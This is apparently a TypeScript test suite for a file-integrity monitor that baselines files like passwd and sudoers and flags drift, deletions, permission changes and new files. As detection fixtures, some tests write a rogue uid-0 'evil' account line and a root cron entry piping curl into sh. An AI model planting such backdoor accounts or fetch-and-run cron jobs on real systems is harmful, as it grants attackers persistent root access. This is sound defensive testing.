import { createHash } from 'node:crypto';
import { chmodSync, mkdtempSync, readFileSync, rmSync, statSync, unlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { BASELINE_FILE, baselineSchema, checkFileIntegrity, hashFile } from './file-integrity.js';

let dir: string;
let state: string;
let a: string;
let b: string;
const now = () => new Date('2026-01-01T00:00:00Z');

beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'vm-fim-'));
  state = join(dir, 'state');
  a = join(dir, 'passwd');
  b = join(dir, 'sudoers');
  writeFileSync(a, 'root:x:0:0:root:/root:/bin/bash\n', { mode: 0o644 });
  writeFileSync(b, 'root ALL=(ALL:ALL) ALL\n', { mode: 0o440 });
});
afterEach(() => rmSync(dir, { recursive: true, force: true }));

const scan = (paths = [a, b], maxFileBytes?: number) => checkFileIntegrity({ paths, stateDir: state, now, ...(maxFileBytes ? { maxFileBytes } : {}) });

describe('checkFileIntegrity', () => {
  it('takes a 0600 baseline at the first scan (info), then reports nothing while unchanged', async () => {
    const first = await scan();
    expect(first).toEqual([expect.objectContaining({ severity: 'info', title: 'integrity baseline created', evidence: expect.objectContaining({ files: 2 }) })]);
    const file = join(state, BASELINE_FILE);
    expect(statSync(file).mode & 0o777).toBe(0o600);
    const baseline = baselineSchema.parse(JSON.parse(readFileSync(file, 'utf8')));
    expect(baseline.files[a]).toMatchObject({ exists: true, sha256: createHash('sha256').update(readFileSync(a)).digest('hex'), mode: 0o644 });
    expect(await scan()).toEqual([]);
  });

  it('reports content drift as high, and keeps reporting it (the baseline is not rewritten)', async () => {
    await scan();
    writeFileSync(a, 'root:x:0:0:root:/root:/bin/bash\nevil:x:0:0::/:/bin/sh\n');
    for (let i = 0; i < 2; i += 1) {
      const findings = await scan();
      expect(findings).toEqual([expect.objectContaining({ check: 'file-integrity', severity: 'high', title: 'file content drift', evidence: expect.objectContaining({ path: a }) })]);
    }
  });

  it('reports a missing file as high and a mode change as medium', async () => {
    await scan();
    unlinkSync(a);
    chmodSync(b, 0o666);
    const findings = await scan();
    expect(findings.map((f) => `${f.severity} ${f.title}`)).toEqual(['high file missing', 'medium file permission drift']);
    expect(findings[1]?.evidence).toMatchObject({ baseline_mode: '0440', mode: '0666' });
  });

  it('extends the baseline with newly configured paths without touching existing entries', async () => {
    await scan([a]);
    writeFileSync(a, 'changed\n');
    const findings = await scan([a, b]);
    expect(findings.map((f) => f.title)).toEqual(['file content drift', 'integrity baseline extended']);
    expect(await scan([a, b])).toEqual([expect.objectContaining({ title: 'file content drift' })]);
  });

  it('records absent paths and reports them when they appear', async () => {
    const c = join(dir, 'cron.d-evil');
    await scan([a, c]);
    writeFileSync(c, '* * * * * root curl x|sh\n');
    expect(await scan([a, c])).toEqual([expect.objectContaining({ severity: 'medium', title: 'file appeared' })]);
  });

  it('refuses to replace an unreadable baseline', async () => {
    await scan();
    writeFileSync(join(state, BASELINE_FILE), '{"v":1, truncated');
    const findings = await scan();
    expect(findings).toEqual([expect.objectContaining({ severity: 'high', title: 'integrity baseline unreadable' })]);
    expect(readFileSync(join(state, BASELINE_FILE), 'utf8')).toBe('{"v":1, truncated');
  });

  it('hashes at most maxFileBytes but still notices size changes', async () => {
    writeFileSync(a, 'x'.repeat(100));
    expect(await hashFile(a, 10)).toBe(createHash('sha256').update('x'.repeat(10)).digest('hex'));
    await scan([a], 10);
    writeFileSync(a, 'x'.repeat(101));
    expect(await scan([a], 10)).toEqual([expect.objectContaining({ title: 'file content drift', evidence: expect.objectContaining({ baseline_size: 100, size: 101 }) })]);
  });

  it('notes a directory in the list as not checked', async () => {
    const findings = await scan([dir]);
    expect(findings[0]).toMatchObject({ severity: 'info', title: 'file not checked' });
  });
});
